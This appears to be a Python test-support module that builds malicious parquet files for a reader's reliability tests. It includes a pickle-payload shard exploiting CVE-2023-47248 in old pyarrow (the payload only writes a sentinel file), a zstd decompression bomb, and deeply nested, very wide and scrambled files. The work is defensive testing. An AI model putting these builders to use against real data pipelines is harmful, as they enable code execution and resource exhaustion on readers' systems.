"""Builders of the malicious parquet files of scenario 1 (docs/reliability.md).

- `pickled_extension_shard`: a LAION-style shard whose stored Arrow schema (ARROW:schema)
  declares its TEXT column, and one extra column, as the extension type
  `arrow.py_extension_type` with a pickle payload: exactly what pyarrow < 14.0.1 unpickled on
  read (CVE-2023-47248). Unpickling the payload writes a sentinel file.
- `zstd_bomb`: an honest decompression bomb (float64 zeros, PLAIN encoding, zstd): every page
  really inflates to what the footer declares.
- `deep_shard`: a column nested `depth` structs deep; `wide_shard` (run through
  malparquet_worker.py, to keep the writer's ~500 MB out of the test process): one column
  per name, one row.
- `scrambled`: the same file with every data byte overwritten and the footer intact.
"""

from __future__ import annotations

import base64
import pickle
import random
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from support.builders import adversarial_table

PY_EXTENSION = "arrow.py_extension_type"


class Plant:
    """Unpickling this writes a file: what a malicious pickle in a shard would do."""

    def __init__(self, sentinel: Path) -> None:
        self.sentinel = sentinel

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (self.sentinel, "unpickled: arbitrary code ran\n"))


def payload(sentinel: Path) -> bytes:
    """A pickle whose loading calls Path.write_text(sentinel, ...) (no test code needed)."""
    return pickle.dumps(Plant(sentinel), protocol=4)


class PickledExtension(pa.ExtensionType):
    """Writes `arrow.py_extension_type` with a chosen pickle as its serialized metadata, as
    pyarrow's old PyExtensionType did. Never registered: reading never comes back here."""

    def __init__(self, storage: pa.DataType, pickled: bytes) -> None:
        self.pickled = pickled
        super().__init__(storage, PY_EXTENSION)

    def __arrow_ext_serialize__(self) -> bytes:
        return self.pickled

    @classmethod
    def __arrow_ext_deserialize__(cls, storage: pa.DataType, serialized: bytes) -> Any:
        raise AssertionError("a reader asked for the malicious extension type")


def pickled_extension_shard(directory: Path, sentinel: Path, rows: int = 80) -> Path:
    table = adversarial_table(rows, 808)
    evil = PickledExtension(pa.string(), payload(sentinel))
    text = table.column("TEXT").combine_chunks().cast(pa.string())
    table = table.set_column(
        table.schema.get_field_index("TEXT"), "TEXT", pa.ExtensionArray.from_storage(evil, text)
    )
    extra = pa.array([f"x{i}" for i in range(rows)], pa.string())
    table = table.append_column("extra", pa.ExtensionArray.from_storage(evil, extra))
    path = directory / "pickled-extension.parquet"
    pq.write_table(table, path)
    return path


def declared_extensions(path: Path) -> dict[str, tuple[bytes, bytes]]:
    """{field: (extension name, serialized metadata)} from the ARROW:schema in the footer,
    decoded as IPC without resolving any extension type."""
    stored = pq.read_metadata(path).metadata[b"ARROW:schema"]
    schema = pa.ipc.read_schema(pa.py_buffer(base64.b64decode(stored)))
    found = {}
    for field in schema:
        meta = field.metadata or {}
        if b"ARROW:extension:name" in meta:
            found[field.name] = (meta[b"ARROW:extension:name"], meta[b"ARROW:extension:metadata"])
    return found


def zstd_bomb(
    path: Path, decoded_bytes: int, chunk_bytes: int = 64 * 1024**2, value_bytes: int = 8
) -> Path:
    """A `similarity` column of zeros decoding to `decoded_bytes` (one row group per
    `chunk_bytes`, written from one reused array: memory stays at one chunk): float64, or
    fixed-size binary values of `value_bytes` (fewer rows for the same bytes)."""
    if value_bytes == 8:
        zeros = pa.array(np.zeros(chunk_bytes // 8, dtype="float64"))
    else:
        n = chunk_bytes // value_bytes
        buffers = [None, pa.py_buffer(bytes(n * value_bytes))]
        zeros = pa.Array.from_buffers(pa.binary(value_bytes), n, buffers)
    chunk = pa.table({"similarity": zeros})
    with pq.ParquetWriter(
        path,
        chunk.schema,
        compression="zstd",
        use_dictionary=False,
        write_statistics=False,
    ) as writer:
        for _ in range(max(1, decoded_bytes // chunk_bytes)):
            writer.write_table(chunk, row_group_size=len(zeros))
    return path


def declared_uncompressed(path: Path) -> int:
    md = pq.read_metadata(path)
    return sum(
        md.row_group(i).column(j).total_uncompressed_size
        for i in range(md.num_row_groups)
        for j in range(md.num_columns)
    )


def deep_shard(path: Path, depth: int) -> Path:
    """URL plus a column `deep` nested `depth` structs deep (depth + 1 levels with its leaf)."""
    typ: pa.DataType = pa.int64()
    value: Any = 1
    for _ in range(depth):
        typ = pa.struct([pa.field("c", typ)])
        value = {"c": value}
    table = pa.table({"URL": ["http://example.com/deep.jpg"], "deep": pa.array([value], typ)})
    pq.write_table(table, path)
    return path


def wide_shard(path: Path, columns: int) -> Path:
    arr = pa.array([None], pa.int8())
    table = pa.Table.from_arrays([arr] * columns, names=[f"c{i}" for i in range(columns)])
    pq.write_table(table, path, write_statistics=False)
    return path


def scrambled(source: Path, target: Path, seed: int = 1) -> Path:
    """`source` with every byte between the leading magic and the footer replaced by noise:
    a reader that decoded any page would fail or differ; a footer check cannot tell."""
    data = bytearray(source.read_bytes())
    footer_length = int.from_bytes(data[-8:-4], "little")
    end = len(data) - 8 - footer_length
    data[4:end] = random.Random(seed).randbytes(end - 4)
    target.write_bytes(bytes(data))
    return target
